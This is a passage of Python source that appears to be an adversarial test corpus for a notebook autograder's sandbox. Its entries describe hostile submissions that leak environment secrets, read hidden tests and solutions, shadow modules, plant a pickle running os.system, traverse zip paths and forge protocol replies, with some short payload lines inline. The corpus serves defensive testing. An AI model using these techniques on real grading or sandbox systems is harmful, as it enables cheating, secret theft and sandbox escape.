                        "with open('big.bin', 'wb') as f:\n    for i in range(10 * 1024):\n        f.write(b'\\0' * 2**20)",
                        "with open('sparse.bin', 'wb') as f:\n    f.seek(10 * 2**30)\n    f.write(b'x')",
                    ]
                },
            ),
            FULL,
            "graded",
            checks=[cell_statuses("error", "error"), has_text("File too large")],
        ),
        # -- reaching outside -------------------------------------------------------------------------
        A(
            "write_results",
            "writes into --out, the gradebook, /work/main/results, the kit, ../../, site-packages, "
            "a classmate's notebook; symlinks its work dir to the results",
            lambda ctx: notebook(ctx, "write_results", insert={3: write_everywhere(ctx)}),
            FULL,
            "graded",
        ),
        A(
            "read_solution",
            "reads the master notebook and the reference cache to copy ANSWER",
            lambda ctx: notebook(ctx, "read_solution", replace={"ANSWER = 42": read_solution_code(ctx)}),
            NO_ANSWER,
            "graded",
            checks=[no_text("LEAKED", "READ_OK")],
        ),
        A(
            "read_hidden",
            "prints the hidden tests",
            lambda ctx: notebook(ctx, "read_hidden", insert={3: read_hidden_code(ctx)}),
            FULL,
            "graded",
            checks=[no_text("def test_later", "assert_tensor(student")],
        ),
        A(
            "read_other_submission",
            "reads and overwrites another notebook of the same batch",
            lambda ctx: notebook(ctx, "read_other_submission", insert={3: read_victim_code(ctx)}),
            FULL,
            "graded",
            checks=[no_text("VICTIM-7f3a")],
        ),
        A(
            "env_leak",
            "prints os.environ and /proc/*/environ, raises with them, writes them to a file",
            nb("env_leak", insert={3: ENV_LEAK}),
            FULL,
            "graded",
            checks=[no_text("{ctx.secret}", "AUTOGRADER_SECRET"), cell_statuses("error")],
        ),
        A(
            "proc_snoop",
            "reads /proc/1 and /proc/<ppid> cmdline and every visible process",
            nb("proc_snoop", insert={3: PROC_SNOOP}),
            FULL,
            "graded",
            checks=[no_text("{ctx.secret}", "spawn_main", "multiprocessing", "AUTOGRADER_SECRET")],
        ),
        A(
            "net_localhost",
            "connects to a listener on 127.0.0.1 and the host's own addresses for the answer",
            lambda ctx: notebook(ctx, "net_localhost", replace={"ANSWER = 42": net_local_code(ctx)}),
            NO_ANSWER,
            "graded",
            checks=[no_text("connected to")],
        ),
        A(
            "net_public",
            "resolves pypi.org, connects to public DNS servers, sends UDP",
            nb("net_public", replace={"ANSWER = 42": NET_PUBLIC}),
            NO_ANSWER,
            "graded",
            checks=[no_text("connected to")],
        ),
        A(
            "zygote_socket",
            "looks for Unix sockets (the warm zygote's listener, /proc/net/unix) and connects",
            nb("zygote_socket", replace={"ANSWER = 42": UNIX_SOCKETS}),
            NO_ANSWER,
            "graded",
            checks=[no_text("connected to")],
        ),
        # -- shadowing and code the grader might load -----------------------------------------------------
        A(
            "stray_files_folder",
            "submission folder with torch.py, numpy.py, conftest.py, sitecustomize.py, .pth",
            stray_folder,
            WRONG_DOUBLE,
            "graded",
            intake=True,
        ),
        A(
            "writes_torch_py",
            "writes torch.py/numpy.py/conftest.py into cwd, sys.path.insert(0, '.'), "
            "importlib.reload(torch), re-imports numpy; double() is wrong",
            lambda ctx: notebook(ctx, "writes_torch_py", insert={2: writes_torch_py(ctx)}, replace=WRONG),
            WRONG_DOUBLE,
            "graded",
        ),
        A(
            "writefile_torch_then_crash",
            "%%writefile torch.py (a torch that exits), then os._exit so the "
            "replayed worker starts in a folder holding it",
            nb(
                "writefile_torch_then_crash",
                insert={2: "%%writefile torch.py\nimport sys\nsys.exit('shadowed torch')"},
                append=["import os\nos._exit(1)"],
            ),
            FULL,
            "crashed",
            checks=[cell_statuses("crashed")],
        ),
        A(
            "pth_files",
            "writes .pth / sitecustomize / usercustomize into site-packages, user site and cwd, "
            "then crashes so a new worker starts",
            lambda ctx: notebook(ctx, "pth_files", insert={3: writes_pth(ctx)}, append=["import os\nos._exit(1)"]),
            FULL,
            "crashed",
        ),
        A(
            "pickle_answer",
            "ANSWER = pickle bytes whose __reduce__ runs os.system; later() returns an object array",
            lambda ctx: notebook(
                ctx, "pickle_answer", replace={"ANSWER = 42": pickle_code(ctx), "return x + 1": "return EVIL_ARRAY"}
            ),
            DOUBLE_OK,
            "graded",
        ),
        # -- malformed files ----------------------------------------------------------------------------
        A(
            "cells_10000",
            "a notebook with 10,000 cells",
            write_bytes("cells_10000", many_cells),
            0,
            "invalid",
            "over the limit of 2000",
        ),
        A(
            "output_50mb",
            "50 MB of output embedded in the JSON",
            write_bytes("output_50mb", huge_output),
            0,
            "invalid",
            "MiB limit",
        ),
        A(
            "invalid_json",
            "truncated JSON",
            write_bytes("invalid_json", lambda ctx: ctx.master.read_bytes()[:200]),
            0,
            "invalid",
            "not valid notebook JSON",
        ),
        A(
            "nbformat_v3",
            "an nbformat v3 notebook (worksheets)",
            write_bytes("nbformat_v3", nbformat_v3),
            FULL,
            "graded",
        ),
        A("non_utf8", "Latin-1 bytes", write_bytes("non_utf8", non_utf8), 0, "invalid", "not UTF-8"),
        A(
            "zip_traversal",
            "zip members named ../../x.ipynb, absolute, backslashed and unicode/RTL names",
            traversal_zip,
            FULL,
            "graded",
            intake=True,
            count=4,
        ),
        A(
            "unicode_filename",
            "file name with accents, a snowman, RTL override and look-alike slashes",
            unicode_name,
            FULL,
            "graded",
            intake=True,
        ),
        # -- lying on the wire ----------------------------------------------------------------------------
        A(
            "frame_10gb",
            "double() writes a frame header claiming a 10 GB result to the reply fd",
            nb(
                "frame_10gb",
                insert={2: REPLY_FD},
                replace={
                    "return x * 2": (
                        "if x.numel() == 2:  # the public test's input only (keeps the corpus fast)\n"
                        "        os.write(_reply_fd(), b'AGW1' + struct.pack('>Q', 10 * 2**30))\n    return x * 2"
                    )
                },
            ),
            FULL - 1,
            "crashed",
            checks=[
                test_outcomes(test_double_small="crashed", test_double_random="passed"),
                test_message("public/test_double.py", "over the"),
            ],
        ),
        A(
            "deep_nested_answer",
            "double() returns a 10,000-deep nested list",
            nb(
                "deep_nested_answer",
                replace={
                    "return x * 2": (
                        "out = x * 2\n    for _ in range(10_000 if x.numel() == 2 else 0):\n        out = [out]\n    return out"
                    )
                },
            ),
            FULL - 1,
            "crashed",
            checks=[
                test_outcomes(test_double_small="crashed", test_double_random="passed"),
                test_message("public/test_double.py", "nested deeper"),
            ],
        ),
        A(
            "forged_deep_json",
            "double() writes a frame whose JSON is nested 200,000 deep",
            nb(
                "forged_deep_json",
                insert={2: REPLY_FD},
                replace={
                    "return x * 2": (
                        "head = b'[' * 200_000 + b']' * 200_000\n    body = struct.pack('>Q', len(head)) + head\n"
                        "    if x.numel() == 2:\n"
                        "        os.write(_reply_fd(), b'AGW1' + struct.pack('>Q', len(body)) + body)\n    return x * 2"
                    )
                },
            ),
            FULL - 1,
            "crashed",
            checks=[test_outcomes(test_double_small="crashed", test_double_random="passed")],
        ),
        A(
            "forged_reply",
            "double() writes a forged {'ok': True, 'value': ...} frame before the real answer",
            nb(
                "forged_reply",
                insert={2: REPLY_FD + "from autograder.execute import wire"},
                replace={
                    "return x * 2": (
                        "os.write(_reply_fd(), wire.encode({'ok': True, 'value': x * 3}))\n    return x * 2"
                    )
                },
            ),
            # replies echo the request's id: the forged frame (no id) is refused, the worker retired, and
            # only the tests whose probes forge lose their points (double: 6); the rest is honest credit
            4,
            "crashed",
            "crashed the worker",
        ),
        A(
            "forged_executed",
            "a cell forges the 'executed' event and a reply answering the public test "
            "([2., 4.]) without defining double()",
            nb(
                "forged_executed",
                replace={"return x * 2": "raise NotImplementedError()"},
                append=[
                    REPLY_FD + "from autograder.execute import wire\nfd = _reply_fd()\n"
                    "os.write(fd, wire.encode({'event': 'executed'}))\n"
                    "os.write(fd, wire.encode({'ok': True, 'value': torch.tensor([2.0, 4.0])}))"
                ],
            ),
            # execution events must follow the cells sent: the early 'executed' is refused, the forging cell
            # crashed and skipped on replay, so the forged reply never reaches a probe; double() then
            # raises NotImplementedError honestly (failed) and the honest ANSWER and later() keep their credit
            WRONG_DOUBLE,
            "crashed",
            "crashed the worker",
            checks=[test_outcomes(test_double_small="failed", test_double_random="failed"), cell_statuses("crashed")],
        ),
    ]
